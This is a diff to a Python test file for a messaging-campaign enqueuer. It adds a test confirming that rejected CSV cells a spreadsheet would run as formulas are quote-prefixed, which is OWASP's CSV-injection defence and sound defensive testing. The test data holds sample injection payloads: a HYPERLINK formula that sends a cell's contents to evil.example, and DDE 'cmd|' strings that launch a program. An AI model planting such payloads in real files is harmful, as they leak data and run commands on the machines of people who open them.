@@ -217,12 +217,51 @@ def test_bad_rows_go_to_the_rejects_file_with_their_reason(tmp_path: Path) -> No
     assert reasons[11] == "not valid UTF-8"
     # The operator's own values come back unchanged, to be fixed and sent again.
     assert records[1][2:] == ["9876543210", "Ravi", "2"]
-    assert b"+919876543217,caf\xe9,8" in rejects.read_bytes()
+    assert b"'+919876543217,caf\xe9,8" in rejects.read_bytes()  # a + cell gets a quote
 
     sent = sorted(envelope["kwargs"]["to"] for _, envelope in drain())
     assert sent == ["+919876543210", "+919876543215"]
     fields = store().get(CampaignRef("acme", "mixed")).fields
     assert (fields["rows_done"], fields["enqueued"], fields["rejected"]) == ("11", "2", "8")
+
+
+def test_rejected_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
+    tmp_path: Path,
+) -> None:
+    """CSV injection: a cell starting with =, +, -, @, tab or CR gets a single quote in front
+    in the rejects file (OWASP's defence); other cells are copied as they were."""
+    dangerous = [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        "+919876543210",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+2",
+        "\r=1+2",
+    ]
+    path = tmp_path / "hostile.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["to", "body_1", "body_2"])
+        writer.writerow([dangerous[0], "Asha", "1"])  # not a number
+        writer.writerow(["+919876543210", dangerous[2], ""])  # one parameter short
+        writer.writerow(["12345", dangerous[3], dangerous[4]])  # not E.164
+        writer.writerow([dangerous[5], "plain", "2"])  # not a number
+        writer.writerow(["+919876543211", "Ravi", "3"])  # good
+    result = enqueue_campaign(path, spec(), amqp_url=AMQP_URL, store=store())
+    assert (result.enqueued, result.rejected) == (1, 4)
+
+    with (tmp_path / "hostile.csv.rejects.csv").open(encoding="utf-8", newline="") as handle:
+        records = list(csv.reader(handle))
+    assert records[0] == ["row", "reason", "to", "body_1", "body_2"]
+    values = [record[2:] for record in records[1:]]
+    assert values == [
+        ["'" + dangerous[0], "Asha", "1"],
+        ["'+919876543210", "'" + dangerous[2], ""],
+        ["12345", "'" + dangerous[3], "'" + dangerous[4]],
+        ["'" + dangerous[5], "plain", "2"],
+    ]
+    cells = [cell for record in records for cell in record]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
 
 def test_usage_errors_exit_2_before_anything_is_enqueued(tmp_path: Path) -> None:
